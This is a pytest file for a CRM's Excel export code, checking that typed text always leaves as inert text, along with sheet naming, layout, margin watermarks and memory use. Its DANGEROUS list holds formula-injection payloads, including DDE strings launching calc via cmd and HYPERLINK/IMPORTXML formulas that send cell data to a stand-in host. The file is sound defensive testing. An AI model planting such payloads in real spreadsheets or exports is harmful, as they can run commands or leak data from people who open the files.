"""What leaves as a workbook is text wherever somebody typed it, whatever it begins with (S13)."""

import datetime as dt
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from yishang_crm.core.sheets import Head, Mark, Sheet, in_margin, looks_like_formula, sheet_name, write_book

DANGEROUS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u3000=1+1",
    "|calc",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"点我")',
    '=IMPORTXML("http://192.0.2.1","//a")',
    '"=1+1',
    '好",=1+1',
    "好;=1+1",
    "第一行\n=1+1",
    "=DDE(“server”;“topic”;“item”)",
)
HARMLESS = ("余秉衡", "深圳市望岳精密科技有限公司", "董事长 总经理", "A-1座", "王·李", "2026", "a=b", "6.5")
PHONES = ("+8619900000417", "19900000417", "0556-5500000", "+85261234567", "00861990000417", "-", "+")


def written(folder: Path, rows, **details) -> Path:
    file = folder / "book.xlsx"
    write_book(file, [Sheet("名单", [Head("甲"), Head("乙")], rows, **details)])
    return file


def xml_of(file: Path, name: str = "xl/worksheets/sheet1.xml") -> str:
    return zipfile.ZipFile(file).read(name).decode()


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_looks_like_a_formula_is_known(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_are_called_does_not_look_like_one(text):
    assert not looks_like_formula(text)


@pytest.mark.parametrize("text", DANGEROUS + HARMLESS + PHONES)
def test_every_text_comes_back_as_it_was_and_nothing_is_a_formula(tmp_path, text):
    file = written(tmp_path, [(text, "某")])
    assert "<f" not in re.sub("<font.*?>", "", xml_of(file))
    assert "hyperlink" not in xml_of(file)
    cell = openpyxl.load_workbook(file).active["A2"]
    assert (cell.data_type, unescape(cell.value), cell.number_format) == ("s", text, "@")
    assert bool(cell.quotePrefix) == looks_like_formula(text)
    assert CalamineWorkbook.from_path(file).get_sheet_by_index(0).to_python()[1][0] == text


def test_a_figure_is_a_figure_and_a_day_is_a_day(tmp_path):
    file = written(tmp_path, [(Decimal("6.50"), dt.date(2026, 9, 24)), (312, None)])
    page = openpyxl.load_workbook(file).active
    assert (page["A2"].value, page["B2"].value.date(), page["A3"].value, page["B3"].value) == (
        6.5, dt.date(2026, 9, 24), 312, None,
    )  # fmt: skip


def test_what_cannot_be_finished_leaves_nothing_behind(tmp_path):
    with pytest.raises(TypeError, match="not true or false"):
        written(tmp_path, [("余秉衡", "某"), (True, "某")])
    assert list(tmp_path.iterdir()) == []


def test_control_characters_and_endless_texts_do_not_break_the_file(tmp_path):
    file = written(tmp_path, [("余\x00秉\x0b衡\ufffe", "长" * 40_000)])
    page = openpyxl.load_workbook(file).active
    assert (page["A2"].value, len(page["B2"].value)) == ("余秉衡", 32_767)


def test_it_looks_like_the_forms_of_the_office(tmp_path):
    file = written(
        tmp_path,
        [("余秉衡", "桐城"), ("汪砚舟", "怀宁")],
        title="安庆籍在外企业家名册",
        line=("填报单位：桐城", "填表人：汪澄", "日期：2026年9月24日"),
        total=("合计", "{count}人"),
    )
    page = openpyxl.load_workbook(file).active
    rows = [[cell.value for cell in row] for row in page.iter_rows()]
    assert rows == [
        ["安庆籍在外企业家名册", None],
        ["填报单位：桐城　　填表人：汪澄　　日期：2026年9月24日", None],
        ["甲", "乙"],
        ["余秉衡", "桐城"],
        ["汪砚舟", "怀宁"],
        ["合计", "2人"],
    ]
    assert {str(one) for one in page.merged_cells.ranges} == {"A1:B1", "A2:B2"}
    assert (page.print_title_rows, page.page_setup.orientation, page.page_setup.paperSize) == (
        "$1:$3", "landscape", 9,
    )  # fmt: skip
    assert page.freeze_panes == "A4"


def test_a_form_to_fill_in_has_hidden_columns_and_choices(tmp_path):
    file = tmp_path / "form.xlsx"
    write_book(file, [Sheet("回报", [Head("编号", hidden=True), Head("状态", choices=("在岗", "退休"))])])
    page = openpyxl.load_workbook(file).active
    assert page.column_dimensions["A"].hidden
    assert [(str(one.sqref), one.formula1) for one in page.data_validations.dataValidation] == [
        ("B2:B501", '"在岗,退休"')
    ]


def test_whose_copy_it_is_stands_in_the_margin_and_in_a_hidden_property(tmp_path):
    file = tmp_path / "book.xlsx"
    mark = Mark("汪澄 2026-09-24 16:42 &P&G 走访", {"yishang-export": "417"})
    write_book(file, [Sheet("名单", [Head("甲")], [("余秉衡",)])], mark=mark)
    page = openpyxl.load_workbook(file).active
    assert "&amp;R&amp;8 汪澄 2026-09-24 16:42 ＆P＆G 走访" in xml_of(file)
    assert "— &[Page] —" in page.oddFooter.center.text.replace("&P", "&[Page]")
    assert "417" in xml_of(file, "docProps/custom.xml")


def test_the_margin_holds_255_characters_and_no_command():
    assert in_margin("&P" * 300, "&R&8") == "&R&8 " + ("＆P" * 150)[:250]


@pytest.mark.parametrize(
    ("asked", "named"),
    [("名单", "名单"), ("a/b:c?*[]", "a b c"), ("'引'", "引"), ("", "名单"), ("长" * 50, "长" * 31)],
)
def test_a_sheet_has_a_name_that_the_format_allows(asked, named):
    assert sheet_name(asked) == named


def test_memory_does_not_grow_with_the_rows(tmp_path):
    """The rows are asked for one by one: none is made before the one before it was written."""
    alive = []

    def rows():
        for number in range(3000):
            alive.append(number)
            yield (f"余{number}", "+8619900000417")

    file = tmp_path / "book.xlsx"
    count = write_book(file, [Sheet("名单", [Head("甲"), Head("乙")], rows())])
    assert (count, len(alive)) == (3000, 3000)
    assert "xl/sharedStrings.xml" not in zipfile.ZipFile(file).namelist()


@pytest.mark.skipif(shutil.which("soffice") is None, reason="no LibreOffice on this machine")
def test_libreoffice_opens_and_saves_it_without_computing_anything(tmp_path):
    rows = [(text, "某") for text in DANGEROUS + PHONES]
    file = written(tmp_path, rows)
    out = tmp_path / "out"
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "xlsx",
               "--outdir", str(out), str(file)]  # fmt: skip
    subprocess.run(command, check=True, timeout=150, capture_output=True)
    page = openpyxl.load_workbook(out / "book.xlsx").active
    # \r and \n are one and the same to it.
    assert [page.cell(number, 1).value.replace("\r", "\n") for number in range(2, len(rows) + 2)] == [
        text.replace("\r", "\n") for text, _ in rows
    ]
    assert "<f>" not in xml_of(out / "book.xlsx")
